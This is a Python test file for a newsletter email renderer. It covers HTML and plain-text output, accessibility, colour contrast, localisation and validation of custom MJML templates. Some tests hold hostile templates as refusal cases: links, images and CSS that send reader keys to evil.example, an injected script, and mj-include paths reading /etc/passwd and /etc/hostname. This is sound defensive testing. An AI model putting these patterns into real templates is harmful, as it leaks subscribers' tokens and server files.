"""The mail itself: HTML that mail programs show, plain text, and what is refused."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from django.core.exceptions import ValidationError

from masthead.lib.colours import contrast
from masthead.newsletters.exceptions import BadTemplate
from masthead.newsletters.rendering.colours import look_of
from masthead.newsletters.rendering.html import html_of
from masthead.newsletters.rendering.items import (
    AppealItem,
    Content,
    DividerItem,
    HeadingItem,
    Host,
    Item,
    PictureItem,
    QuoteItem,
    Shot,
    StoryItem,
    TextItem,
)
from masthead.newsletters.rendering.leads import Leads
from masthead.newsletters.rendering.mjml import check_template, to_html
from masthead.newsletters.rendering.text import WIDTH, prose, text_of
from masthead.newsletters.tests.markup import parsed

SHOT = Shot("https://t.example/p.jpg", 168, 112, 'A "quay" & a boat')
LEADS = Leads("https://t.example/leave", "https://t.example/preferences", "https://t.example/issue/")
OWN = "<mjml><mj-body>[[content]]<mj-section><mj-column><mj-text>{}</mj-text></mj-column></mj-section></mj-body></mjml>"


def told(headline: str = "Ferry & rain", look: str = "picture", **fields: Any) -> StoryItem:
    given: dict[str, Any] = {
        "story": 1, "headline": headline, "text": "<p>It <b>floats</b>.</p>", "address": "https://t.example/ferry/",
        "look": look, "shot": None if look == "plain" else SHOT, "section": "City", "names": "Ada", "minutes": 4,
        "language": "", "level": 2, **fields,
    }  # fmt: skip
    return StoryItem(**given)


EACH: tuple[Item, ...] = (
    told(look="large"), told(), told(look="plain", language="uk"), HeadingItem("More <news>"),
    TextItem('<p>Words, <a href="https://a.example/?x=1&amp;y=2">a link</a>.</p><ul><li>One</li></ul>'),
    PictureItem(SHOT, "A caption", "https://a.example/"), QuoteItem("A number", "Marta"),
    AppealItem("Help", "<p>Give.</p>", "Support us", "https://t.example/join/"), DividerItem(),
)  # fmt: skip


def content(*items: Item, **fields: Any) -> Content:
    given: dict[str, Any] = {
        "issue": 7, "subject": "Ferry & <rain>", "preview_text": "It floats.", "language": "en",
        "list_name": "Morning", "list_address": "https://t.example/newsletters/morning/", "colour": "#8a1c2b",
        "host": Host("Ada", "Reporter", "https://t.example/authors/ada/", SHOT), "paper": "The Tideway Post",
        "home": "https://t.example/", "postal": ("1 Quay Street", "Tideway"), "day": "4 May 2026",
        "intro": "<p>Hello.</p>", "items": items, "browser": "https://t.example/issue/", "counts_clicks": False,
        "template": "", **fields,
    }  # fmt: skip
    return Content(**given)


def test_each_block_finds_its_way_into_the_mail() -> None:
    html = html_of(content(*EACH), LEADS)
    page = parsed(html)
    words = " ".join(page.text_content().split())
    for said in (
        "Ferry & rain",
        "More <news>",
        "a link",
        "A caption",
        "A number",
        "Support us",
        "Hello.",
        "Quay Street",
    ):
        assert said in words
    assert page.get("lang") == "en"
    assert page.findtext(".//title") == "Ferry & <rain>"
    assert "mj-" not in "".join(element.tag for element in page.iter() if isinstance(element.tag, str))
    assert [one.tag for one in page.iter("h1", "h2", "h3")] == ["h1", "h2", "h2", "h2", "h2", "h2"]


def test_tables_are_no_tables_for_who_hears_the_mail() -> None:
    tables = list(parsed(html_of(content(*EACH), LEADS)).iter("table"))
    assert len(tables) > 5
    assert {table.get("role") for table in tables} == {"presentation"}


def test_nothing_in_it_is_fetched_but_its_own_pictures() -> None:
    html = html_of(content(*EACH), LEADS)
    page = parsed(html)
    assert {image.get("src") for image in page.iter("img")} == {SHOT.src}
    assert not list(page.iter("script", "link", "iframe", "form"))
    assert "@import" not in html
    assert "url(" not in html


def test_each_picture_has_words_and_a_width() -> None:
    for image in parsed(html_of(content(*EACH), LEADS)).iter("img"):
        assert image.get("alt") is not None
        assert image.get("width")


def test_who_leaves_finds_the_way() -> None:
    page = parsed(html_of(content(*EACH), LEADS))
    led = [link.get("href") for link in page.iter("a")]
    assert LEADS.unsubscribe in led
    assert LEADS.preferences in led
    assert LEADS.browser in led


def test_thirty_stories_are_not_clipped_by_gmail() -> None:
    items = [
        told(f"Story {n} of a long and well filled day", text="<p>" + "A word or two. " * 10 + "</p>")
        for n in range(30)
    ]
    assert len(html_of(content(*items), LEADS).encode()) < 100_000


def test_the_preview_text_comes_first_and_is_not_followed_by_other_words() -> None:
    seen = parsed(html_of(content(*EACH), LEADS)).find("body").text_content().strip()
    assert seen.startswith("It floats.")
    assert "4 May" not in seen[:150]


def test_it_is_said_when_clicks_are_counted() -> None:
    said = "We count how often each link is followed, never by whom."
    counting, not_counting = content(*EACH, counts_clicks=True), content(*EACH)
    assert said in html_of(counting, LEADS)
    assert said in " ".join(text_of(counting, LEADS).split())
    assert said not in html_of(not_counting, LEADS)


def test_a_list_in_ukrainian_speaks_ukrainian() -> None:
    html = html_of(content(*EACH, language="uk"), LEADS)
    assert parsed(html).get("lang") == "uk"
    assert "Відписатися" in html
    assert "Unsubscribe" not in html


def test_the_own_template_of_a_list_holds_the_issue() -> None:
    own = OWN.format('[[name]] at [[address]]: <a href="[[unsubscribe]]">leave</a>')
    page = parsed(html_of(content(*EACH, template=own), LEADS))
    words = " ".join(page.text_content().split())
    assert "Morning at 1 Quay StreetTideway: leave" in words
    assert "Ferry & rain" in words
    assert "Hello." in words
    assert LEADS.unsubscribe in [link.get("href") for link in page.iter("a")]


@pytest.mark.parametrize(
    ("template", "why"),
    [
        ("<mjml><mj-body></mj-body></mjml>", "[[content]]"),
        ("<mjml><mj-body>[[content]]</mj-body></mjml>", "[[unsubscribe]]"),
        (OWN.format("[[unsubscribe]] [[secret]]"), "[[secret]]"),
        (OWN.format("[[unsubscribe]]<script>x</script>"), "scripts"),
        ('<mjml><mj-body>[[content]][[unsubscribe]]<mj-include path="/etc/passwd"/></mj-body></mjml>', "included"),
        ("<mjml><mj-body>[[content]][[unsubscribe]]", "MJML"),
        ("[[content]] [[unsubscribe]]", "MJML"),
        (OWN.format("[[unsubscribe]]").replace("mj-column", "mj-pillar"), "mj-pillar"),
    ],
)
def test_a_template_that_cannot_carry_an_issue_is_refused_in_words(template: str, why: str) -> None:
    with pytest.raises(ValidationError) as refused:
        check_template(template)
    assert why in refused.value.messages[0]


def test_a_good_template_is_taken() -> None:
    check_template(OWN.format('<a href="[[unsubscribe]]">Leave</a> [[preferences]] [[browser]] [[name]] [[address]]'))


@pytest.mark.parametrize(
    "leak",
    [
        '<a href="https://evil.example/?[[preferences]]">x</a>',
        "<a href=\"https://evil.example/?a=href='[[unsubscribe]]'\">x</a>",
        '<img src="[[preferences]]" />',
        '<img src="https://evil.example/> [[preferences]]" />',
        '<b title="[[preferences]]" style="background:url([[preferences]])">x</b>',
    ],
)
def test_a_template_hands_no_key_of_a_reader_to_another_host(leak: str) -> None:
    with pytest.raises(ValidationError, match="key of the reader"):
        check_template(OWN.format(f'<a href="[[unsubscribe]]">Leave</a> {leak}'))


def test_a_style_of_a_template_hands_no_key_over_either() -> None:
    style = "<mj-head><mj-style>a { background: url(https://evil.example/[[preferences]]) }</mj-style></mj-head>"
    with pytest.raises(ValidationError, match="key of the reader"):
        check_template(OWN.format("[[unsubscribe]]").replace("<mj-body>", f"{style}<mj-body>"))


def test_square_brackets_in_a_subject_are_filled_with_nothing() -> None:
    own = OWN.format('<a href="[[unsubscribe]]">leave</a>')
    html = html_of(content(template=own, subject="What [[content]] and [[preferences]] mean"), LEADS)
    assert "What [[content]] and [[preferences]] mean" in html


def test_no_file_of_the_machine_is_read_into_a_mail() -> None:
    with pytest.raises(BadTemplate):
        to_html('<mjml><mj-body><mj-include path="file:///etc/hostname"/></mj-body></mjml>')


@pytest.mark.parametrize("colour", ["#ffffff", "#000000", "#ffe600", "#8a1c2b", "#7f7f7f"])
def test_words_in_any_colour_can_be_read(colour: str) -> None:
    look = look_of(colour)
    assert contrast(look.text_tone, "#ffffff") >= 4.5
    assert contrast(look.tone_in_dark, "#14181b") >= 4.5
    assert contrast(look.on_tone, look.tone) >= 4


def test_no_line_of_the_text_is_longer_than_a_terminal_unless_it_is_an_address() -> None:
    long = told("A headline of many words " * 6, text="<p>" + "Слово за словом, " * 40 + "</p>")
    lines = text_of(content(long, *EACH), LEADS).splitlines()
    assert max(len(line) for line in lines if "://" not in line) <= WIDTH
    assert LEADS.unsubscribe in lines
    assert "https://t.example/ferry/" in lines


def test_links_in_the_text_are_numbered_and_stand_below() -> None:
    html = '<p>See <a href="https://a.example/?x=1&amp;y=2">this</a>,<br>or <a href="https://b.example/">https://b.example/</a>.</p>'
    assert prose(html) == "See this [1],\nor https://b.example/.\n\n[1] https://a.example/?x=1&y=2"


def test_lists_in_the_text_have_marks_and_numbers() -> None:
    assert prose("<p>A</p><ul><li>b</li><li>c</li></ul>") == "A\n\n- b\n- c"
    assert prose("<ol><li>b</li><li>c</li></ol>") == "1. b\n2. c"


def test_the_text_says_all_that_the_mail_says() -> None:
    text = " ".join(text_of(content(*EACH), LEADS).split())
    for said in ("Ferry & rain", "More <news>", "A caption", "A number", "Support us", "Hello.", "Quay Street", "Ada"):
        assert said in text


def test_an_issue_without_host_intro_and_preview_is_whole() -> None:
    bare = content(told(), host=None, intro="", preview_text="", postal=())
    assert "Written by" not in html_of(bare, LEADS) + text_of(bare, LEADS)


def test_our_content_in_an_own_template_keeps_the_head_of_the_template() -> None:
    own = OWN.format("[[unsubscribe]]").replace("<mj-body>", "<mj-head><mj-title>Own</mj-title></mj-head><mj-body>")
    assert parsed(html_of(content(told(), template=own), LEADS)).findtext(".//title") == "Own"
    closed = OWN.format("[[unsubscribe]]").replace("<mj-body>", "<mj-head/><mj-body>")
    assert "prefers-color-scheme" in html_of(replace(content(told()), template=closed), LEADS)
